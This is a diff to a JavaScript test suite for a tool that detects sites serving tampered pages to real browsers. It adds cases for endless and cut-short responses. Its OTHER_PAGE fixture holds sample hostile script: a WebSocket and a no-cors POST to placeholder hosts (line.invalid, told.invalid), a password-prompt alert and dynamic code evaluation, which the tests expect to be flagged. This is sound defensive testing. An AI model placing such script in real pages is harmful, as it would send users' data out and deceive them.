@@ -11,7 +11,6 @@ import { contract } from "./lib/contract.mjs";
 import { deploy, prepared } from "./lib/deployment.mjs";
 import { countedLine } from "./lib/line.mjs";
 import { startMeddler } from "./lib/meddler.mjs";
-import { full } from "./lib/pairs.mjs";
 import { Authority } from "./lib/tls.mjs";
 import { all } from "./lib/words.mjs";
 
@@ -295,10 +294,12 @@ test("an honest site is honest in a real browser, too", async () => {
 /** A page of somebody else's, which does what ours must never do. */
 const OTHER_PAGE = `<!doctype html><iframe srcdoc="<p>x"></iframe><script>
 new WebSocket("ws://line.invalid/"); fetch("http://told.invalid/", { method: "POST", mode: "no-cors", body: "all" });
-fetch("/v1/sent", { method: "POST", body: "all" }); alert("Your password?"); new Function("return 1")();</script>`;
+fetch("/v1/sent", { method: "POST", body: "all" }).then((answer) => answer.text()); alert("Your password?"); new Function("return 1")();
+const stop = new AbortController(); fetch("/v1/endless", { signal: stop.signal }).catch(() => {}); setTimeout(() => stop.abort(), 300);</script>`;
+/** A page that leads away while an answer that it asked for is still coming. */
+const LED_PAGE = `<!doctype html><script>fetch("/v1/endless").catch(() => {})</script>`;
 
-// For a release: beside other work this browser was once led away and did not answer for minutes, and why is not known yet (docs/plan.md).
-test("a site is found out that is honest with everybody but a real browser", { skip: !full }, async () => {
+test("a site is found out that is honest with everybody but a real browser", async () => {
   const changes = {
     "/privileged": [
       (answer) => ((answer.body = Buffer.from(OTHER_PAGE)), answer.set("content-encoding"), answer.set("content-security-policy")),
@@ -307,6 +308,12 @@ test("a site is found out that is honest with everybody but a real browser", { s
     ],
     "/identity": [(answer) => ((answer.status = 302), answer.set("location", "https://elsewhere.invalid/")), "status 302, to https://elsewhere.invalid/", "asks somebody else: https://elsewhere.invalid/", "no answer: ", "leads to chrome-error:"],
     "/recipient": [(answer) => answer.add("refresh", "0; url=/status"), "refresh: 0; url=/status is not in the list", "wants to lead to http", "leads to http"],
+    "/write": [
+      (answer) => ((answer.body = Buffer.from(LED_PAGE)), answer.set("content-encoding"), answer.set("content-security-policy"), answer.add("refresh", "0; url=/status")),
+      "refresh: 0; url=/status is not in the list", "wants to lead to http", "leads to http", "other bytes", "content-security-policy is missing", "runs a script that is not in the list, of http",
+    ],
+    "/v1/endless": [(answer) => ((answer.isEndless = true), answer.set("content-length"), answer.set("content-encoding"), answer.body = Buffer.from("more and more"))],
+    "/receipt": [(answer) => (answer.isCutShort = true), "other bytes", "no answer: "],
     "/review": [(answer) => answer.set("content-security-policy", "default-src *"), "content-security-policy is default-src *, not"],
     "/status": [(answer) => answer.add("content-security-policy", "default-src *"), "content-security-policy comes 2 times", "content-security-policy is default-src *, not"],
     "/check": [(answer) => answer.add("set-cookie", "who=you"), "set-cookie: who=you is not in the list"],
